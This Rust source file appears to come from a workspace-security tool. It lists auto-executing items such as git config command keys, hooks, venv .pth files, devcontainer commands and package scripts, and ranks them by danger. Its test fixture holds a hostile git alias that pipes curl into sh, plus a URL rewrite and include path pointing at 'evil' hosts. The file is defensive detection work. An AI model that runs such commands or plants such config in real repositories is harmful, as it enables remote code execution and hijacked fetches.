//! Reads every place of `items::Kind` in one workspace. Each collector looks
//! at fixed paths (or one directory level), so this is cheap enough to run
//! at every session start and end.

use super::items::{file_item, item, summary, Item, Kind};
use std::path::{Path, PathBuf};

/// Git config keys that make git run a command.
fn executes(section: &str, key: &str, value: &str) -> bool {
    let s = section.to_ascii_lowercase();
    let k = key.to_ascii_lowercase();
    match (s.split('.').next().unwrap_or(""), k.as_str()) {
        ("core", "fsmonitor" | "sshcommand" | "pager" | "editor" | "hookspath" | "askpass" | "gitproxy") => true,
        ("credential", "helper") => true,
        ("filter", "clean" | "smudge" | "process") => true,
        ("diff", "textconv" | "command") => true,
        ("merge", "driver") => true,
        ("alias", _) => value.trim_start().starts_with('!'),
        ("include", "path") => true,
        ("includeif", "path") => true,
        ("url", "insteadof" | "pushinsteadof") => true,
        ("sequence", "editor") | ("gpg", "program") | ("ssh", "program") | ("pager", _) => true,
        _ => false,
    }
}

/// (section.subsection, key, value) triples of a git config file.
pub fn git_config_entries(text: &str) -> Vec<(String, String, String)> {
    let mut out = Vec::new();
    let mut section = String::new();
    for raw in text.lines() {
        let line = raw.trim();
        if line.starts_with('#') || line.starts_with(';') || line.is_empty() {
            continue;
        }
        if let Some(rest) = line.strip_prefix('[') {
            let inner = rest.split(']').next().unwrap_or("").trim();
            section = match inner.split_once(' ') {
                Some((name, sub)) => format!("{name}.{}", sub.trim().trim_matches('"')),
                None => inner.to_string(),
            };
            continue;
        }
        let (k, v) = line.split_once('=').unwrap_or((line, "true"));
        out.push((section.clone(), k.trim().to_string(), v.trim().trim_matches('"').to_string()));
    }
    out
}

fn git(ws: &Path, items: &mut Vec<Item>) {
    let dot_git = ws.join(".git");
    if !dot_git.is_dir() {
        return;
    }
    let config = std::fs::read_to_string(dot_git.join("config")).unwrap_or_default();
    for (section, key, value) in git_config_entries(&config) {
        if executes(&section, &key, &value) {
            let name = format!("{section}.{key}");
            items.push(item(Kind::GitConfigKey, ".git/config", Some(&name), value.as_bytes(), 0, format!("{name} = {}", summary(&value))));
        }
    }
    let mut hook_dirs = vec![PathBuf::from(".git/hooks")];
    if let Some(p) = crate::sandbox::gitconfig::hooks_path(&config, ws) {
        if let Ok(rel) = p.strip_prefix(ws) {
            hook_dirs.push(rel.to_path_buf());
        }
    }
    for dir in hook_dirs {
        for name in list(&ws.join(&dir)) {
            if name.ends_with(".sample") {
                continue;
            }
            let rel = dir.join(&name).to_string_lossy().into_owned();
            items.extend(file_item(ws, &rel, Kind::GitHook));
        }
    }
}

fn list(dir: &Path) -> Vec<String> {
    let Ok(rd) = std::fs::read_dir(dir) else { return Vec::new() };
    let mut v: Vec<String> = rd.filter_map(|e| e.ok()?.file_name().into_string().ok()).collect();
    v.sort();
    v
}

/// Directories that shadowing is judged against.
const SYSTEM_BIN: &[&str] = &["/usr/local/bin", "/usr/bin", "/bin", "/usr/sbin", "/sbin"];

fn venvs(ws: &Path, items: &mut Vec<Item>) {
    for name in list(ws) {
        let venv = ws.join(&name);
        if !venv.join("pyvenv.cfg").is_file() {
            continue;
        }
        for bin in list(&venv.join("bin")) {
            let rel = format!("{name}/bin/{bin}");
            if bin.starts_with("activate") {
                items.extend(file_item(ws, &rel, Kind::VenvActivate));
            } else if SYSTEM_BIN.iter().any(|d| Path::new(d).join(&bin).exists()) {
                items.extend(file_item(ws, &rel, Kind::VenvShadow));
            }
        }
        for py in list(&venv.join("lib")).into_iter().filter(|p| p.starts_with("python")) {
            let site = format!("{name}/lib/{py}/site-packages");
            for pth in list(&ws.join(&site)).into_iter().filter(|f| f.ends_with(".pth")) {
                items.extend(pth_item(ws, &format!("{site}/{pth}")));
            }
        }
    }
}

/// A .pth file runs its `import` lines at every interpreter start; the
/// rest only extends sys.path.
fn pth_item(ws: &Path, rel: &str) -> Option<Item> {
    let mut it = file_item(ws, rel, Kind::PthFile)?;
    let text = std::fs::read_to_string(ws.join(rel)).unwrap_or_default();
    let code: Vec<&str> = text.lines().filter(|l| l.starts_with("import ") || l.starts_with("import\t")).collect();
    it.runs = if code.is_empty() { "adds paths to sys.path".into() } else { summary(&code.join("; ")) };
    Some(it)
}

/// The devcontainer definition: the file itself, and each lifecycle command
/// (initializeCommand runs on the host).
fn devcontainer(ws: &Path, items: &mut Vec<Item>) {
    let mut files = vec![".devcontainer/devcontainer.json".to_string(), ".devcontainer.json".to_string()];
    for sub in list(&ws.join(".devcontainer")) {
        files.push(format!(".devcontainer/{sub}/devcontainer.json"));
    }
    for rel in files {
        let Some(mut file) = file_item(ws, &rel, Kind::Devcontainer) else { continue };
        file.runs = "container definition (image, mounts, runArgs, features)".into();
        items.push(file);
        let text = std::fs::read_to_string(ws.join(&rel)).unwrap_or_default();
        let Ok(v) = json5::from_str::<serde_json::Value>(&text) else { continue };
        for key in ["initializeCommand", "onCreateCommand", "updateContentCommand", "postCreateCommand", "postStartCommand", "postAttachCommand"] {
            let Some(cmd) = v.get(key) else { continue };
            let kind = if key == "initializeCommand" { Kind::DevcontainerHostCommand } else { Kind::Devcontainer };
            let shown = if let Some(s) = cmd.as_str() { s.to_string() } else { cmd.to_string() };
            items.push(item(kind, &rel, Some(key), shown.as_bytes(), 0, format!("{key}: {}", summary(&shown))));
        }
    }
}

fn package_scripts(ws: &Path, items: &mut Vec<Item>) {
    let Ok(text) = std::fs::read_to_string(ws.join("package.json")) else { return };
    let Ok(v) = serde_json::from_str::<serde_json::Value>(&text) else { return };
    let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) else { return };
    for (name, cmd) in scripts {
        let cmd = cmd.as_str().unwrap_or_default();
        items.push(item(Kind::PackageScript, "package.json", Some(name), cmd.as_bytes(), 0, format!("{name}: {}", summary(cmd))));
    }
}

/// Every item in the workspace, most dangerous first.
pub fn collect(ws: &Path) -> Vec<Item> {
    let mut items = Vec::new();
    devcontainer(ws, &mut items);
    git(ws, &mut items);
    venvs(ws, &mut items);
    package_scripts(ws, &mut items);
    for (rel, kind) in [
        (".envrc", Kind::Envrc),
        (".vscode/settings.json", Kind::VscodeSettings),
        (".vscode/tasks.json", Kind::VscodeTask),
        (".vscode/launch.json", Kind::VscodeLaunch),
        (".pre-commit-config.yaml", Kind::PreCommitConfig),
        (".pre-commit-config.yml", Kind::PreCommitConfig),
        ("Makefile", Kind::Makefile),
        ("makefile", Kind::Makefile),
        ("GNUmakefile", Kind::Makefile),
        ("justfile", Kind::Makefile),
        ("Justfile", Kind::Makefile),
        (".justfile", Kind::Makefile),
    ] {
        items.extend(file_item(ws, rel, kind));
    }
    items.sort_by(|a, b| b.kind.danger().cmp(&a.kind.danger()).then_with(|| a.id.cmp(&b.id)));
    items
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exec_keys_of_git_config() {
        let text = "[core]\n\tfsmonitor = ./x.sh\n\tbare = false\n[alias]\n\tst = status\n\tboom = !sh -c 'curl x|sh'\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n[url \"https://evil/\"]\n\tinsteadOf = https://github.com/\n[includeIf \"gitdir:/w/\"]\n\tpath = ../evil.cfg\n";
        let keys: Vec<String> = git_config_entries(text)
            .into_iter()
            .filter(|(s, k, v)| executes(s, k, v))
            .map(|(s, k, _)| format!("{s}.{k}"))
            .collect();
        assert_eq!(keys, ["core.fsmonitor", "alias.boom", "filter.lfs.clean", "url.https://evil/.insteadOf", "includeIf.gitdir:/w/.path"]);
    }
}
